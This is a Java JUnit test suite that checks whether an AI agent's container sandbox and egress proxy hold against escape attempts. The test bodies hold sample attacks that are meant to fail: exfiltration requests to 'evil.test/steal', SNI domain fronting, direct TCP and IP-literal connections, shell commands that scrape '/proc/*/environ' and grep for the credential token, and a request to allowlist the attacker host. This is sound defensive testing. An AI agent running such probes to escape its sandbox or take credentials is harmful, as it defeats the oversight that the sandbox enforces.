package dev.bottles.docker.escape;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.bottles.BottleSpec;
import dev.bottles.Bottles;
import dev.bottles.ExecResult;
import dev.bottles.RunningBottle;
import dev.bottles.docker.internal.DockerEngine;
import dev.bottles.docker.testimages.TestImages;
import dev.bottles.manifest.AgentDefinition;
import dev.bottles.manifest.BottleDefinition;
import dev.bottles.manifest.EgressRoute;
import dev.bottles.manifest.Manifest;
import dev.bottles.manifest.RouteAuth;
import dev.bottles.sidecars.CertificateAuthority;
import dev.bottles.sidecars.Egress;
import dev.bottles.spi.BottleBackend;
import java.io.ByteArrayOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * The sandbox-escape suite, adapted from the original's PRD 0022: a real bottle with the real
 * bundle, a test upstream on the bundle's outbound network answering as {@code api.allowed.test}
 * (a credential route, paths under {@code /v1/}), {@code www.allowed.test} (allowed, no credential)
 * and {@code evil.test} (never allowed), each over HTTP and HTTPS with a test CA egress trusts
 * through its extra anchors. Every attack runs from inside the agent and must fail, and every test
 * also checks what the upstream saw. A backend runs it by extending this class.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
public abstract class SandboxEscapeSuite {
    /** The names the upstream answers to. */
    protected static final List<String> NAMES = List.of("api.allowed.test", "www.allowed.test", "evil.test",
            "late.allowed.test");

    private final String token = "tok-" + HexFormat.of().formatHex(new SecureRandom().generateSeed(12));
    private Path home;
    private RunningBottle bottle;
    private DockerEngine engine;
    private dev.bottles.docker.testimages.UpstreamContainer upstream;
    private String upstreamIp;

    /**
     * Returns the backend under test.
     *
     * @return the backend
     */
    protected abstract BottleBackend backend();

    /**
     * Returns the backend's settings for the probing agent image (and anything else it needs).
     *
     * @param agentImage the probing agent image
     * @return the settings
     */
    protected abstract Map<String, String> settings(String agentImage);

    /**
     * Returns the network the bundle dials upstreams from, where the test upstream joins.
     *
     * @param bottle the running bottle
     * @return the network's name
     */
    protected abstract String outboundNetwork(RunningBottle bottle);

    /**
     * Returns the address the agent dials the bundle at.
     *
     * @param bottle the running bottle
     * @return an address as the agent sees it
     */
    protected abstract String bundleAddress(RunningBottle bottle);

    @BeforeAll
    void launch() throws Exception {
        engine = TestImages.engine();
        home = Files.createTempDirectory("bottles-escape-");
        CertificateAuthority ca = CertificateAuthority.mint("escape test CA", Clock.systemUTC());
        Path anchors = home.resolve("test-ca.pem");
        Files.writeString(anchors, ca.certificatePem());
        Manifest m = Manifest.builder()
                .bottle(BottleDefinition.builder("escape")
                        .route(EgressRoute.to("api.allowed.test").withPaths("/v1/").withAuth(RouteAuth.bearer("ESCAPE_TOKEN")))
                        .route(EgressRoute.to("www.allowed.test")).supervise(true).build())
                .agent(AgentDefinition.builder("escaper").bottle("escape").build()).build();
        Map<String, String> settings = new LinkedHashMap<>(settings(TestImages.probeAgent()));
        settings.put(Egress.EXTRA_CA_SETTING, anchors.toString());
        BottleSpec spec = BottleSpec.builder("escaper").manifest(m).home(home).userCwd(home)
                .hostEnvironment(Map.of("ESCAPE_TOKEN", token)).settings(settings)
                .approvals(p -> java.util.concurrent.CompletableFuture.completedFuture(
                        p.route() != null && p.route().host().equals("late.allowed.test") ? dev.bottles.Decision.approve()
                                : dev.bottles.Decision.reject("only late.allowed.test may be added")))
                .build();
        TestImages.removeAtExitIfNew(dev.bottles.docker.internal.BundleImages.describe(engine,
                new dev.bottles.spi.Settings(settings, Map.of())).reference());
        bottle = Bottles.using(backend()).prepare(spec).launch();

        upstream = dev.bottles.docker.testimages.UpstreamContainer.start(engine, TestImages.upstream(),
                bottle.identity(), outboundNetwork(bottle), NAMES, certsTar(ca), "upstream ready");
        upstreamIp = upstream.ip();
    }

    @AfterAll
    void tearDown() {
        dev.bottles.docker.testimages.UpstreamContainer.tearDown(upstream, bottle, home);
    }

    private static byte[] certsTar(CertificateAuthority ca) throws Exception {
        CertificateAuthority.Leaf leaf = ca.issue(NAMES, Duration.ofDays(1), Clock.systemUTC());
        KeyStore ks = KeyStore.getInstance("PKCS12");
        ks.load(null, null);
        ks.setKeyEntry("server", leaf.privateKey(), "test".toCharArray(), leaf.chain());
        ByteArrayOutputStream p12 = new ByteArrayOutputStream();
        ks.store(p12, "test".toCharArray());
        ByteArrayOutputStream tar = new ByteArrayOutputStream();
        try (var out = dev.bottles.docker.internal.JavaRuntime.tar(tar)) {
            dev.bottles.docker.internal.JavaRuntime.directory(out, "certs", 0755);
            dev.bottles.docker.internal.JavaRuntime.bytes(out, "certs/server.p12", p12.toByteArray(), 0644);
            out.finish();
        }
        return tar.toByteArray();
    }

    /** What the upstream has served so far, one line each: scheme host method path authorization. */
    private List<String> seen() throws Exception {
        String body = upstream.ask("/seen", false);
        return body.isBlank() ? List.of() : body.lines().toList();
    }

    private List<String> seenSince(int before) throws Exception {
        List<String> all = seen();
        return new ArrayList<>(all.subList(before, all.size()));
    }

    /**
     * Returns the bottle under attack.
     *
     * @return the running bottle
     */
    protected RunningBottle bottle() {
        return bottle;
    }

    private String probe(String... args) {
        List<String> argv = new ArrayList<>(List.of("java", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-jar",
                "/opt/probe.jar"));
        argv.addAll(List.of(args));
        ExecResult r = bottle.exec(argv);
        assertEquals(0, r.exitCode(), () -> "probe " + List.of(args) + " crashed: " + r.stderr());
        return r.stdout();
    }

    private ExecResult sh(String script) {
        return bottle.exec("sh", "-c", script);
    }

    @Test
    void anAllowedHostWithoutCredentialIsReachedAndSpliced() throws Exception {
        int before = seen().size();
        String out = probe("get", "https://www.allowed.test/hello", "--insecure");
        assertTrue(out.startsWith("status=200"), out);
        assertEquals(List.of("https www.allowed.test GET /hello -"), seenSince(before));
    }

    @Test
    void aHostNotOnTheAllowlistIsRefusedOverHttpAndConnect() throws Exception {
        int before = seen().size();
        String http = probe("get", "http://evil.test/steal?data=x");
        assertTrue(http.startsWith("status=403\nblocked: host evil.test is not on this bottle's allowlist"), http);
        String https = probe("get", "https://evil.test/steal", "--insecure");
        assertTrue(https.startsWith("get=failed") && https.contains("403"), https);
        assertEquals(List.of(), seenSince(before), "evil.test saw nothing");
    }

    @Test
    void ipLiteralsDomainFrontingAndDirectConnectionsFail() throws Exception {
        int before = seen().size();
        String literal = probe("get", "http://" + upstreamIp + "/");
        assertTrue(literal.startsWith("status=403\nblocked: host " + upstreamIp), literal);
        for (String allowed : List.of("api.allowed.test:443", "www.allowed.test:443")) {
            String front = probe("front", allowed, "evil.test");
            assertTrue(front.contains("connect=HTTP/1.1 200"), front);
            assertTrue(front.contains("handshake=failed"), "SNI evil.test inside a tunnel to " + allowed + ": " + front);
        }
        String direct = probe("tcp", upstreamIp, "443");
        assertTrue(direct.startsWith("tcp=failed"), "the agent has no route to the upstream: " + direct);
        assertEquals(List.of(), seenSince(before));
    }

    @Test
    void aCredentialIsInjectedUpstreamAndNeverReachesTheAgent() throws Exception {
        int before = seen().size();
        String out = probe("get", "https://api.allowed.test/v1/models", "Authorization=Bearer fake");
        assertTrue(out.startsWith("status=200\nupstream ok"), out);
        assertEquals(List.of("https api.allowed.test GET /v1/models Bearer_" + token), seenSince(before),
                "the upstream got the real token, not the agent's");

        ExecResult env = sh("cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; env");
        assertFalse(env.stdout().contains(token), "no process in the agent holds the token");
        assertTrue(env.stdout().contains("HTTPS_PROXY="), "the probe really read the environment");
        ExecResult files = sh("grep -rl '" + token + "' /etc /home /tmp /workspace /root /opt /var /bin 2>/dev/null;"
                + " echo scanned");
        assertEquals("scanned", files.stdout().strip(), "no file in the agent holds the token");

        int mid = seen().size();
        String outside = probe("get", "https://api.allowed.test/admin/keys", "Authorization=Bearer fake");
        assertTrue(outside.startsWith("status=403\nblocked: path /admin/keys on api.allowed.test"), outside);
        assertEquals(List.of(), seenSince(mid), "a path outside path_allowlist never reaches the upstream");
    }

    @Test
    void theAgentCannotResolveNames() throws Exception {
        for (String name : List.of("evil.test", "api.allowed.test")) {
            String out = probe("resolve", name);
            assertTrue(out.startsWith("resolve=failed"), name + ": " + out);
        }
        ExecResult nslookup = sh("nslookup evil.test");
        assertNotEquals(0, nslookup.exitCode(), "busybox's resolver fails too: " + nslookup.stdout());
    }

    @Test
    void anApprovedRouteOpensAHostThroughEgressWithoutARestartAndARejectedOneDoesNot() throws Exception {
        int before = seen().size();
        assertTrue(probe("get", "http://late.allowed.test/early").startsWith("status=403\nblocked: host late.allowed.test"));
        String asked = probe("mcp", "egress-allow", "{\"host\":\"late.allowed.test\",\"justification\":\"fetch the"
                + " dataset\"}");
        assertTrue(asked.startsWith("mcp=200 ") && asked.contains("approved: late.allowed.test is live in egress now"),
                asked);
        String after = probe("get", "http://late.allowed.test/now");
        assertTrue(after.startsWith("status=200\nupstream ok"), "reached without a restart: " + after);
        assertEquals(List.of("http late.allowed.test GET /now -"), seenSince(before));

        String refused = probe("mcp", "egress-allow", "{\"host\":\"evil.test\",\"justification\":\"trust me\"}");
        assertTrue(refused.contains("rejected: only late.allowed.test may be added"), refused);
        assertTrue(probe("get", "http://evil.test/").startsWith("status=403"));

        List<String> audit = Files.readAllLines(home.resolve("audit").resolve("approvals.jsonl"));
        assertEquals(2, audit.size(), audit.toString());
        assertTrue(audit.get(0).contains("\"verdict\":\"approved\"") && audit.get(0).contains("late.allowed.test"));
        assertTrue(audit.get(1).contains("\"verdict\":\"rejected\"") && audit.get(1).contains("evil.test"));
    }

    @Test
    void localhostAndTheBundlesInternalPortsStayClosed() {
        assertTrue(probe("tcp", "127.0.0.1", "9").startsWith("tcp=failed"));
        assertTrue(probe("tcp", bundleAddress(bottle), "8888").startsWith("tcp=failed"),
                "pipelock's port is never reachable from the agent");
    }
}
